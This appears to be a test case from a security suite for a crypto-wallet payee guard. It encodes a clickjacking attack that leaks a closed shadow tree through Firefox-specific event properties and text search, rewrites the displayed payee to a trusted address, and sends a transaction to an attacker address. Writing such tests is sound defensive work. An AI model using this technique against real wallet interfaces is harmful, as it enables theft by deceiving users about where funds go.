// The question is rewritten from inside: Firefox shows what is in a closed shadow tree by properties of events and by what a search selected.
import { reachedWallet } from './logs.mjs';

export default {
  title: 'the question is rewritten from inside its closed tree',
  id: 'T4',
  source: 'clickjacking',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], unknown: { payee: 'ask' } }),

  async attack(a) {
    window.covered = true;
    const rewrite = (node) => {
      const root = node?.getRootNode?.();
      const place = root instanceof ShadowRoot ? root.querySelector('dd') : null;
      if (place === null || place.textContent === a.GOOD) return;
      place.textContent = a.GOOD;
      window.rewritten = true;
    };
    for (const type of ['focus', 'focusin', 'mouseover', 'mousemove', 'pointermove', 'keydown', 'keyup'])
      window.addEventListener(
        type,
        (event) => {
          for (const key of ['originalTarget', 'explicitOriginalTarget', 'rangeParent']) rewrite(event[key]);
        },
        true,
      );
    window.paying = window.ethereum
      .request({ method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.EVIL, value: '0x5' }] })
      .catch(() => {});
    while (document.documentElement.lastElementChild.localName !== 'div')
      await new Promise((resolve) => setTimeout(resolve, 20));
    window.find?.('Compare');
    const selection = getSelection();
    rewrite(selection.anchorNode);
    rewrite(selection.focusNode);
    if (selection.rangeCount > 0) rewrite(selection.getRangeAt(0).startContainer);
    return window.paying;
  },

  async action(a, app) {
    if (!window.covered) return app.pay(a.GOOD, 5n);
    await new Promise((resolve) => setTimeout(resolve, 800));
    await payeeguardTest.hands('press', '', 'Tab');
    await new Promise((resolve) => setTimeout(resolve, 2000));
    // Who reads the right address says yes, who reads the thief's says no.
    await payeeguardTest.hands('press', '', window.rewritten ? 'Enter' : 'Escape');
    return null;
  },

  timeout: 30_000,

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD, 'eth_sendTransaction'),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
};
